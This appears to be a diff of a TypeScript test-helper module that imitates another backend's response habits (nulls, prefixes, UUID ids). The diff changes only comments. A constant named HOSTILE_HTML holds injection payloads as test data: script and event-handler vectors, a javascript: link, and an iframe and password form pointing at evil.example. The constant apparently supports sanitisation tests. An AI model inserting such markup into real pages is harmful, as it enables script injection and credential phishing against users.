@@ -11,11 +11,11 @@ const ELSEWHERE = "https://api.example/v2";
 const INSTANT = /^(\d{4}-\d\d-\d\dT[\d:.]+)Z$/;
 /** Texts that are HTML by the contract. */
 const HTML_KEY = /^(content|description|biography)(En|Fr)?$/;
-/** Markup that editors may have put into a text, and nobody took out. */
+/** Markup that an editor may have put into a text of that backend, which does not remove it. */
 export const HOSTILE_HTML =
   '<script>window.hostile=1</script><style>main{display:none}</style><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"><button>Go</button></form><p style="position:fixed" class="hostile" onclick="window.hostile=1">hostile words</p><a href="javascript:window.hostile=1">hostile link</a><img src="x" onerror="window.hostile=1">';
 
-/** Habits of API Platform that ours does not have, by default or by a setting of the house. */
+/** Habits of API Platform, by default or by configuration, that our API does not have. */
 export const HABITS = {
   "leaves out what is null": (key, value) => (value === null ? [] : [[key, value]]),
   "writes no prefix": (key, value) => [[key.replace(/^hydra:/, ""), unprefixed(value)]],
@@ -41,7 +41,7 @@ export const HABITS = {
   ],
 } satisfies Record<string, Habit>;
 
-/** Ways of that backend to name things: the specification says of no id that it is a number. */
+/** Ids as that backend may write them: nothing in the specification says that an id is a number. */
 export const NAMINGS = {
   "gives addresses for ids": (key, value) => [[key, isIds(key, value) ? value.map(trackAddress) : value]],
   "names things by UUIDs": (key, value) => [[key, renamed(key, value, uuidOf)]],
@@ -52,7 +52,7 @@ export const NAMINGS = {
 /** The fields of a sound that only ours has, most of them measured by us. */
 const OF_SOUNDS = new Set("analysis durationSeconds estimated loudness nameLang truePeak".split(" "));
 
-/** Ours alone has carts and lists that hold versions, says which state of them it is, and measures sounds. */
+/** Only our API has versions in carts and projects, tells which state of these it sends, and measures sounds. */
 export const withoutAdditions: Habit = (key, value) =>
   OF_SOUNDS.has(key) ||
   key === "version" ||
@@ -102,7 +102,7 @@ function elsewhere(root: string, value: unknown): unknown {
   return `${ELSEWHERE}${root.startsWith("/") ? "" : "/"}${value}`;
 }
 
-/** The answer as a backend of these habits gives it. */
+/** Returns the answer as a backend with these habits would send it. */
 export function rewritten(answer: unknown, habits: readonly Habit[]): unknown {
   if (Array.isArray(answer)) return answer.map((one) => rewritten(one, habits));
   if (typeof answer !== "object" || answer === null) return answer;
